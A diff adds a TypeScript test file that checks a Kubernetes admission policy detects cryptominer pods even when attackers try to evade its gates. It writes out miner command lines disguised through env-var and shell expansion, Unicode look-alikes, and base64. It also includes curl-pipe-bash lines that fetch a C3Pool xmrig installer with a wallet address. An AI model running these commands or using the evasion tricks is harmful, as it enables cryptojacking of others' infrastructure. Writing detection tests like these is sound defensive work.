@@ -1,0 +1,223 @@
+// The gates in front of the detection steps, attacked by someone who has read them (issue 10,
+// item 7). A gate that is not truly necessary is an evasion: a miner that slips past it is never
+// read. Each attack below is a pod an attacker would write to get past one gate; each asserts the
+// answer a user sees (refused or warned, by which policy) and, where the step has an ungated
+// reference, that the gated step says exactly what the ungated one says about every line.
+import fc from 'fast-check'
+import t, { type Test } from 'tap'
+import { podEnvironment } from '../../src/detect/container-sources.ts'
+import { commandLines, containerTexts } from '../../src/detect/container-text.ts'
+import { compileInstallerFinder } from '../../src/detect/installer-urls.ts'
+import { minerConfigSigns, readMinerConfig } from '../../src/detect/miner-config.ts'
+import { compileGrammar, compileUngatedGrammar, envCommandLine } from '../../src/detect/miner-grammar.ts'
+import { evaluate } from '../../src/engine/evaluate.ts'
+import { loadIntel } from '../../src/intel/load.ts'
+import type { InstallerEntry } from '../../src/intel/types.ts'
+import type { KubeObject, V1Container } from '../../src/workloads/kubernetes.ts'
+import { defaultPolicies } from '../helpers/server.ts'
+
+const W = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
+const SEED = 20261202
+const policySet = await defaultPolicies()
+const intel = await loadIntel(new URL('../../policies/data/intel/', import.meta.url).pathname)
+const lists = { algorithms: ['rx/0', 'kawpow', 'scrypt', 'ethash', 'randomx'] }
+const gated = compileGrammar(lists)
+const ungated = compileUngatedGrammar(lists)
+
+function podOf(container: Partial<V1Container>, spec: object = {}) {
+  return {
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: { name: 'p', namespace: 'ns' },
+    spec: { containers: [{ name: 'c', image: 'debian:12-slim', ...container }], ...spec },
+  }
+}
+
+/** What the user sees from one policy: each finding's action and the start of its message. */
+function verdicts(container: Partial<V1Container>, policy: string, spec: object = {}): { action: string; message: string }[] {
+  return evaluate({ object: podOf(container, spec) }, policySet)
+    .findings.filter((finding) => finding.policy === policy)
+    .map(({ action, message }) => ({ action, message }))
+}
+
+/** Every command line miner-signals hands the grammar for this container, the env-spelt one too. */
+function grammarLines(container: Partial<V1Container>, spec: object = {}): string[] {
+  const pod = podOf(container, spec)
+  const environment = podEnvironment({}, pod.spec, [], 'attack')
+  const texts = containerTexts(pod.spec.containers[0] as V1Container, undefined, environment)
+  return [...commandLines(texts).map((line) => line.text), envCommandLine(container.env)]
+}
+
+/** A test name for white space: a raw U+2028 or U+2029 would end the TAP line. */
+function codePoints(text: string): string {
+  return [...text].map((character) => `U+${(character.codePointAt(0) as number).toString(16).padStart(4, '0')}`).join(' ')
+}
+
+function grammarSays(grammar: typeof gated, text: string): { quotes: string[]; connects: boolean } {
+  const quotes: string[] = []
+  const connects = grammar(text, (quote) => quotes.push(quote))
+  return { quotes, connects }
+}
+
+/** The lines where the gated grammar says something else than the ungated one (none, for a sound gate). */
+function gateDiffers(container: Partial<V1Container>, spec: object = {}): string[] {
+  return grammarLines(container, spec).filter((text) => JSON.stringify(grammarSays(gated, text)) !== JSON.stringify(grammarSays(ungated, text)))
+}
+
+function refusedAsMinerCommandLine(t: Test, container: Partial<V1Container>, spec: object = {}) {
+  const found = verdicts(container, 'miner-signals', spec)
+  t.equal(found[0]?.action, 'deny', JSON.stringify(found))
+  t.match(found[0]?.message, /miner command line/)
+  t.same(gateDiffers(container, spec), [])
+}
+
+t.test("the grammar's gate: the `:`, the endpoint option and the word end cannot be hidden from it", async (t) => {
+  t.test('long options with `=` are read through the gate', async (t) => {
+    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '--url=pool.example.net:3333', '--user=worker1', '--tls'] })
+    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '-o=pool.example.net:3333', '-u=worker1', '--donate-level=1'] })
+  })
+
+  t.test('a `:` or an option name assembled by $(VAR) is in the text the gate reads (the kubelet expands it first)', async (t) => {
+    refusedAsMinerCommandLine(t, {
+      env: [
+        { name: 'O', value: '-o' },
+        { name: 'C', value: ':' },
+      ],
+      args: ['$(O)', 'pool.example.net$(C)3333', '-u', 'worker1', '-k', '--tls'],
+    })
+    refusedAsMinerCommandLine(t, {
+      env: [
+        { name: 'DASH', value: '-' },
+        { name: 'PORT', value: ':3333' },
+      ],
+      args: ['$(DASH)$(DASH)url', 'pool.example.net$(PORT)', '$(DASH)u', 'worker1', '$(DASH)k'],
+    })
+  })
+
+  t.test('a `:` or an option name assembled by the shell (${O}, $C) is in the shell-expanded text the gate reads', async (t) => {
+    const env = [
+      { name: 'O', value: '-o' },
+      { name: 'C', value: ':3333' },
+    ]
+    refusedAsMinerCommandLine(t, { env, command: ['sh', '-c', '/usr/local/bin/svc ${O} pool.example.net$C -u worker1 -k --tls'] })
+    refusedAsMinerCommandLine(t, { env, command: ['/bin/bash', '-c', '/usr/local/bin/svc "$O" "pool.example.net${C}" -u worker1 --nicehash'] })
+  })
+
+  t.test('an env-only command line (POOL_URL, WALLET ...) in any case passes the env names gate', async (t) => {
+    for (const [url, user, donate] of [
+      ['POOL_URL', 'WALLET', 'DONATE_LEVEL'],
+      ['pool_url', 'wallet', 'donate_level'],
+      ['Pool_Url', 'Wallet_Address', 'Donate_Level'],
+    ] as const) {
+      refusedAsMinerCommandLine(t, {
+        env: [
+          { name: url, value: 'pool.example.net:3333' },
+          { name: user, value: 'worker1' },
+          { name: donate, value: '1' },
+        ],
+      })
+    }
+  })
+
+  t.test('white space the gate does not list as a word end is no word end for the grammar either', async (t) => {
+    // No-break space, ideographic space, zero-width space and NUL: xmrig's getopt sees one word, and so does the grammar.
+    for (const gap of ['\u00a0', '\u3000', '\u200b', '\u0000', '\u2028']) {
+      const container = { command: ['sh', '-c', ['/usr/local/bin/svc', '-o', 'pool.example.net:3333', '-u', 'worker1', '-k'].join(gap)] }
+      t.same(gateDiffers(container), [], codePoints(gap))
+    }
+  })
+
+  t.test('look-alike dashes and colons are no option or port for the miner: gated and ungated agree', async (t) => {
+    for (const command of [
+      ['/x', '\u2010o', 'pool.example.net:3333', '-u', 'worker1', '-k'],
+      ['/x', '\u2212\u2212url', 'pool.example.net:3333', '--user', 'worker1', '--tls'],
+      ['/x', '-o', 'pool.example.net\uff1a3333', '-u', 'worker1', '-k'],
+      ['/x', '-\u043e', 'pool.example.net:3333', '-u', 'worker1', '-k'],
+    ]) {
+      t.same(gateDiffers({ command }), [], JSON.stringify(command))
+    }
+  })
+
+  t.test('random command lines with look-alikes, control characters and every white space: gated equals ungated', async (t) => {
+    const piece = fc.oneof(
+      fc.constantFrom('-o', '-P', '--url', '--pool', '--dualpool', '-u', '--user', '-k', '--tls', '-p', 'x', '-a', 'rx/0', '=', ':', '-'),
+      fc.constantFrom('pool.example.net:3333', 'pool.example.net', '203.0.113.9:443', 'stratum+tcp://a.example:1', '-opool.example.net:3333', '-kBo'),
+      fc.constantFrom('\u2010', '\u2212', '\uff1a', '\ufe55', '\u043e', '\u041e', '\u0000', '\u001b', '\u0085', '\u00a0', '\u2028', '\u200b'),
+      fc.constantFrom(' ', '\t', '\v', '\f', '\r', '\n', ';', '|', '&', "'", '"', '`'),
+      fc.string({ unit: 'binary', maxLength: 3 }),
+    )
+    t.doesNotThrow(() =>
+      fc.assert(
+        fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
+          const text = pieces.join('')
+          return JSON.stringify(grammarSays(gated, text)) === JSON.stringify(grammarSays(ungated, text))
+        }),
+        { seed: SEED, numRuns: 20000 },
+      ),
+    )
+  })
+})
+
+t.test('the config gate: a miner config cannot start with a character the gate turns away', async (t) => {
+  const config = '{"pools":[{"url":"pool.example.net:3333","user":"worker1"}],"donate-level":1}'
+  const refusedAsConfig = (t: Test, text: string) => {
+    t.same(minerConfigSigns(text), readMinerConfig(text), codePoints(text.slice(0, 4)))
+    const found = verdicts({ env: [{ name: 'CFG', value: text }] }, 'miner-signals')
+    t.equal(found[0]?.action, 'deny', JSON.stringify(found))
+    t.match(found[0]?.message, /miner configuration/)
+  }
+
+  t.test('JSON5 spellings xmrig reads (single quotes, unquoted keys, trailing commas) pass the gate', async (t) => {
+    refusedAsConfig(t, "{'pools':[{'url':'pool.example.net:3333','user':'worker1',},],'donate-level':1}")
+    refusedAsConfig(t, '{pools:[{url:"pool.example.net:3333",user:"worker1"}],"donate-level":1,}')
+    refusedAsConfig(t, `\ufeff\u2029\u205f\t${config}`)
+  })
+
+  t.test('a config mounted from a ConfigMap passes the gate as an env value does', async (t) => {
+    const spec = { volumes: [{ name: 'cfg', configMap: { name: 'miner' } }] }
+    const container = { volumeMounts: [{ name: 'cfg', mountPath: '/etc/svc' }] }
+    const object = podOf(container, spec) as KubeObject
+    const configMap: KubeObject = {
+      apiVersion: 'v1',
+      kind: 'ConfigMap',
+      metadata: { name: 'miner', namespace: 'ns' },
+      data: { 'config.json': `\ufeff${config}` },
+    }
+    const found = evaluate({ object, related: [configMap] }, policySet).findings.filter((finding) => finding.policy === 'miner-signals')
+    t.equal(found[0]?.action, 'deny', JSON.stringify(found))
+    t.match(found[0]?.message, /miner configuration/)
+  })
+})
+
+/** An installer entry for a host no text here names: it switches the dot gate off, so the finder reads every text. */
+const DOTLESS = { prefix: 'gate-off-host', source: 'test', date: '2026-12' } as InstallerEntry
+const findGated = compileInstallerFinder(intel.installers)
+const findUngated = compileInstallerFinder([...intel.installers, DOTLESS])
+
+t.test("the installer search's dot gate: a listed host cannot be named without a dot", async (t) => {
+  const refusedAsInstaller = (t: Test, container: Partial<V1Container>) => {
+    const found = verdicts(container, 'miner-signals')
+    t.equal(found[0]?.action, 'deny', JSON.stringify(found))
+    t.match(found[0]?.message, /downloads a miner installer/)
+    const pod = podOf(container)
+    const texts = containerTexts(pod.spec.containers[0] as V1Container, undefined, podEnvironment({}, pod.spec, [], 'attack'))
+    t.same(findGated(texts), findUngated(texts))
+  }
+  const script = 'raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh'
+
+  t.test('a host in capitals or with its trailing dot passes the gate', async (t) => {
+    refusedAsInstaller(t, { command: ['sh', '-c', `curl -sL https://${script.toUpperCase()} | bash -s ${W}`] })
+    refusedAsInstaller(t, { command: ['sh', '-c', `curl -sL https://${script.replace('.com/', '.com./')} | bash -s ${W}`] })
+  })
+
+  t.test('dots assembled by $(VAR) or by the shell are in the text the gate reads', async (t) => {
+    const env = [{ name: 'D', value: '.' }]
+    refusedAsInstaller(t, { env, command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', '$(D)')} | bash`] })
+    refusedAsInstaller(t, { env, command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', '${D}')} | bash`] })
+  })
+
+  t.test('a download hidden in base64 passes the gate through its decoded text', async (t) => {
+    const hidden = Buffer.from(`curl -sL https://${script} | bash`).toString('base64')
+    refusedAsInstaller(t, { command: ['sh', '-c', `echo ${hidden} | base64 -d | sh`] })
+  })
+})
